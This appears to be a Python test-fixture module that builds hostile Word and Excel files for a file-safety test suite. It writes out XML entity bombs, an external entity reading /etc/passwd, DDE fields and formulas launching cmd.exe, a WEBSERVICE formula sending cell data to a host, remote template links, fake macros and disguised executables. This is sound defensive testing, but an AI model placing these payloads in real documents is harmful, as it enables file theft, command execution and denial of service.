"""Hostile Office files: parts of a real docx or xlsx put in or changed."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
import openpyxl

from tests.files.unseen.containers import Maker

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "[Content_Types].xml"


def document(text: str = "信息公开年度报告") -> bytes:
    out, made = io.BytesIO(), docx.Document()
    made.add_paragraph(text)
    made.save(out)
    return out.getvalue()


def workbook(value: str | int = "申请数量") -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    book.worksheets[0]["A1"] = value
    book.save(out)
    return out.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The package with these parts put in or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def edited(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The package with ``old`` replaced in one part, once; it must be there."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        text = package.read(part)
    assert old in text
    return with_parts(data, {part: text.replace(old, new, 1)})


def body_with(xml: bytes) -> bytes:
    return edited(document(), "word/document.xml", b"<w:sectPr", xml + b"<w:sectPr")


def with_doctype(doctype: bytes, use: bytes = b"") -> bytes:
    data = edited(document("PLACE"), "word/document.xml", b"<w:document", doctype + b"<w:document")
    return edited(data, "word/document.xml", b"PLACE", use)


def laughs() -> bytes:
    lines = b'<!ENTITY a0 "lol">'
    for at in range(1, 10):
        lines += b'<!ENTITY a%d "%s">' % (at, b"&a%d;" % (at - 1) * 10)
    return with_doctype(b"<!DOCTYPE d [" + lines + b"]>", b"&a9;")


def quadratic() -> bytes:
    return with_doctype(b'<!DOCTYPE d [<!ENTITY a "' + b"A" * 50_000 + b'">]>', b"&a;" * 20_000)


def external_entity() -> bytes:
    return with_doctype(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;")


def external_dtd() -> bytes:
    return with_doctype(b'<!DOCTYPE d SYSTEM "http://127.0.0.1:9/x.dtd">', b"a")


def related(kind: str, target: str) -> bytes:
    """A docx one of whose relationships means something outside."""
    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return edited(
        document(), "word/_rels/document.xml.rels", b"</Relationships>", f"{link}</Relationships>".encode()
    )


def remote_template() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/attachedTemplate" Target="http://127.0.0.1:9/a.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(document(), {"word/_rels/settings.xml.rels": rels.encode()})


def dde_field() -> bytes:
    return body_with(b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"/></w:p>')


def split_dde_field() -> bytes:
    run = b'<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
    start, end = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % at for at in (b"begin", b"end"))
    return body_with(
        b"<w:p>" + start + run % b" DD" + run % b"EAUTO" + run % b" cmd /k calc" + end + b"</w:p>"
    )


def macro_type() -> bytes:
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return edited(document(), TYPES, plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def deep_xml() -> bytes:
    return body_with(b"<w:p>" * 200_000 + b"</w:p>" * 200_000)


def external_book() -> bytes:
    part = f'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc" xmlns:r="{OFFICE}"/></externalLink>'
    return with_parts(workbook(), {"xl/externalLinks/externalLink1.xml": part.encode()})


def bomb_in(data: bytes, part: str) -> bytes:
    return with_parts(data, {part: b"<x>" + b" " * 400_000_000 + b"</x>"})


def wide_sheet() -> bytes:
    row = b'<row r="1">' + b'<c t="n"><v>1</v></c>' * 1_000_000 + b"</row>"
    return edited(workbook(1), "xl/worksheets/sheet1.xml", b"<sheetData>", b"<sheetData>" + row)


def put(data: Callable[[], bytes], part: str, what: bytes) -> Callable[[], bytes]:
    return lambda: with_parts(data(), {part: what})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
NATIVE = "\x01Ole10Native".encode("utf-16-le")
MACRO_SHEET = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'

DOCUMENTS: dict[str, Maker] = {
    "billion laughs": ("报告.docx", laughs),
    "quadratic blow-up": ("报告.docx", quadratic),
    "external entity": ("报告.docx", external_entity),
    "external dtd": ("报告.docx", external_dtd),
    "remote template": ("报告.docx", remote_template),
    "remote object": ("报告.docx", lambda: related("oleObject", "http://127.0.0.1:9/a.xls")),
    "remote frame": ("报告.docx", lambda: related("frame", "http://127.0.0.1:9/a.htm")),
    "remote sub-document": ("报告.docx", lambda: related("subDocument", "\\\\127.0.0.1\\a.docx")),
    "dde field": ("报告.docx", dde_field),
    "dde field in three runs": ("报告.docx", split_dde_field),
    "macro project": ("报告.docx", put(document, "word/vbaProject.bin", OLE)),
    "macro type": ("报告.docx", macro_type),
    "packed object": ("报告.docx", put(document, "word/embeddings/oleObject1.bin", OLE + NATIVE)),
    "program in the package": ("报告.docx", put(document, "word/media/a.exe", b"MZ" + bytes(300))),
    "program as a picture": ("报告.docx", put(document, "word/media/image1.png", b"MZ\x90\x00" + bytes(300))),
    "activex": ("报告.docx", put(document, "word/activeX/activeX1.xml", b"<ocx/>")),
    "200 000 deep": ("报告.docx", deep_xml),
    "bomb in the text": ("报告.docx", lambda: bomb_in(document(), "word/document.xml")),
    "text not xml": ("报告.docx", put(document, "word/document.xml", b"<w:document")),
    "no content types": ("报告.docx", put(document, TYPES, b"")),
    "docx as xlsx": ("报表.xlsx", document),
    "macro docm as docm": ("报告.docm", macro_type),
    "external book": ("报表.xlsx", external_book),
    "webservice": ("报表.xlsx", lambda: workbook('=WEBSERVICE("http://127.0.0.1:9/"&A2)')),
    "dde formula": ("报表.xlsx", lambda: workbook("=cmd|'/c calc'!A0")),
    "a million columns": ("报表.xlsx", wide_sheet),
    "bomb of shared strings": ("报表.xlsx", lambda: bomb_in(workbook(), "xl/sharedStrings.xml")),
    "macro sheet": ("报表.xlsx", put(workbook, "xl/macrosheets/sheet1.xml", MACRO_SHEET)),
    "macros of a workbook": ("报表.xlsx", put(workbook, "xl/vbaProject.bin", OLE)),
    "encrypted or broken compound": ("报告.docx", lambda: OLE),
    "compound header only": ("报告.doc", lambda: OLE),
}
